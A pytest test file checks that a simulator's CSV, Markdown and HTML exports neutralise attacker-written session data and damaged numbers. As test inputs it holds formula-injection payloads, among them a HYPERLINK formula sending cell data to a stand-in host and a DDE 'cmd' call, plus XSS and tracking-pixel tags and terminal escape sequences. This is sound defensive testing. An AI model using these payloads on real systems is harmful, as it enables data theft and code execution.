"""Exports of a session written by an attacker: formulas, raw HTML, damaged numbers."""

from __future__ import annotations

import csv
import io
import re
import sqlite3
import stat
from dataclasses import replace
from pathlib import Path

import pytest

from simulator.audio.result import Reason
from simulator.export import build_debrief, csv_text, md_escape, render_html, render_markdown
from simulator.scenarios.library import load_file
from simulator.scenarios.model import Origin
from simulator.store.history import HistoryStore, RoundCoaching, export_session
from simulator.store.paths import history_db_path
from tests.unit import test_export as base
from tests.unit.test_export import Checker, failed, run, sps

home = base.home
store = base.store

REPO = Path(__file__).resolve().parents[2]
FORMULAS = [
    '=HYPERLINK("https://example.invalid/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
IMG = '<img src="https://tracker.invalid/p.png">'
IFRAME = '<iframe src="https://tracker.invalid/"></iframe>'


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_text_never_starts_a_formula(formula: str) -> None:
    cell = csv_text(formula)
    assert cell.startswith("'") and formula[1:].split("\t")[-1][-3:] in cell


def test_csv_export_neutralises_names_and_notes(
    capsys: pytest.CaptureFixture[str], store: HistoryStore
) -> None:
    sid = store.start_session("check-question", "en", participant=FORMULAS[0], notes=FORMULAS[1])
    for n, formula in enumerate(FORMULAS, start=1):
        store.save_round(sid, n, sps(1.0 + n / 10), coaching=RoundCoaching(note=formula))
    code, out, _ = run(capsys, str(sid), "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == len(FORMULAS)
    for row, formula in zip(rows, FORMULAS, strict=True):
        assert row["participant"] == "'" + FORMULAS[0]
        assert row["coach_note"] == "'" + formula.replace("\r", " ")  # a lone CR shows as space
        for value in row.values():
            assert not value or value[0] not in "=+@\t\r"
        assert float(row["measured_s"]) > 1.0  # numbers stay numbers


def scenario_with_overrides(tmp_path: Path) -> Path:
    text = (REPO / "scenarios" / "check-question.en.toml").read_text("utf-8")
    text = text.replace(
        "[[materials]]\n",
        "[feedback]\n"
        f"next_too_short = 'Wait longer. {IMG}'\n"
        f"praise_on_target = 'Well done {IFRAME} ![x](https://tracker.invalid/i.png)'\n\n"
        "[[materials]]\n",
        1,
    )
    path = tmp_path / "check-question.en.toml"
    path.write_text(text, "utf-8")
    return path


def test_markdown_passes_no_html_or_images_from_a_scenario(
    tmp_path: Path, store: HistoryStore
) -> None:
    scenario = load_file(scenario_with_overrides(tmp_path), Origin.PACK)
    sid = store.start_session(
        "check-question",
        "en",
        participant="Kay\n# Not a heading\n<img src=x onerror=alert(1)>",
        notes="![pixel](https://tracker.invalid/n.png)\n<iframe src=//x>",
    )
    store.save_round(sid, 1, sps(1.0), coaching=RoundCoaching(note="<b>\n---\n* item"))
    store.save_round(sid, 2, sps(3.0))
    (session,) = store.sessions()
    page = render_markdown(build_debrief(export_session(session), scenario, "en"))
    assert "Wait longer. \\<img" in page and "Well done \\<iframe" in page
    assert not re.search(r"(?<!\\)<(img|iframe|b)\b", page)
    assert not re.search(r"(?<!\\)!\[", page)
    assert "# Not a heading" not in page.replace("\\# Not a heading", "")
    assert not [line for line in page.splitlines() if line.startswith(("---", "* item"))]


def test_md_escape_folds_lines_and_escapes_what_markdown_reads() -> None:
    assert md_escape("a\nb") == "a b"
    assert md_escape("![x](y) <i> & *b* `c` ~d~ #e |f|") == (
        "\\!\\[x\\](y) \\<i\\> & \\*b\\* \\`c\\` \\~d\\~ \\#e \\|f\\|"
    )
    assert md_escape("- not a list") == "\\- not a list"
    assert md_escape("\x1b]52;c;x\x07") == "\\\\u001b\\]52;c;x\\\\u0007"


def damage(column: str, value: float, sid: int) -> None:
    with sqlite3.connect(history_db_path()) as conn:
        conn.execute(f"UPDATE rounds SET {column} = ? WHERE session_id = ?", (value, sid))


@pytest.mark.parametrize("value", [1e300, float("inf"), float("-inf"), -5.0])
@pytest.mark.parametrize("column", ["span_end_s", "audio_s", "measured_s", "max_s"])
def test_out_of_range_numbers_are_not_drawn(
    capsys: pytest.CaptureFixture[str], store: HistoryStore, column: str, value: float
) -> None:
    sid = store.start_session("check-question", "en")
    store.save_round(sid, 1, sps(1.5))
    store.save_round(sid, 2, failed(Reason.NAME_FIRST))
    (session,) = store.sessions()
    damage(column, value, sid)
    for fmt in ("html", "md", "csv"):
        code, out, err = run(capsys, str(sid), "--format", fmt)
        assert code == 0 and "damaged" in err  # the history leaves the rounds out
        assert len(out) < 100_000
    # The export's own guard, for a session that did not come through the history's checks.
    hostile = replace(session, rounds=tuple(replace(r, **{column: value}) for r in session.rounds))
    page = render_html(build_debrief(export_session(hostile), None, "en"))
    checker = Checker()
    checker.feed(page)
    assert checker.problems == [] and "1e+300" not in page and "inf" not in page.lower()
    assert page.count("its stored values are damaged") >= 2 and len(page) < 100_000


def test_nan_in_the_history_is_not_drawn(
    capsys: pytest.CaptureFixture[str], store: HistoryStore
) -> None:
    sid = store.start_session("check-question", "en")
    store.save_round(sid, 1, sps(1.5))
    damage("span_end_s", float("nan"), sid)  # SQLite keeps a NaN as NULL
    code, out, err = run(capsys, str(sid), "--format", "html")
    assert (code, err) == (0, "")
    assert "nan" not in out.lower().replace("nannies", "")


@pytest.mark.parametrize(
    "bad", ["²", "١٢", "9" * 5000, "\x1b[2J"], ids=["superscript", "arabic", "long", "escape"]
)
def test_session_ids_in_other_digits_are_refused_clearly(
    capsys: pytest.CaptureFixture[str], home: Path, bad: str
) -> None:
    code, out, err = run(capsys, bad)
    assert code == 1 and "is not a session id" in err
    assert "\x1b" not in err and len(err) < 500


def test_a_new_export_file_is_private(
    capsys: pytest.CaptureFixture[str], store: HistoryStore, tmp_path: Path
) -> None:
    sid = store.start_session("check-question", "en", participant="Kay")
    store.save_round(sid, 1, sps(3.0))
    target = tmp_path / "debrief.md"
    code, _, _ = run(capsys, str(sid), "-o", str(target))
    assert code == 0
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
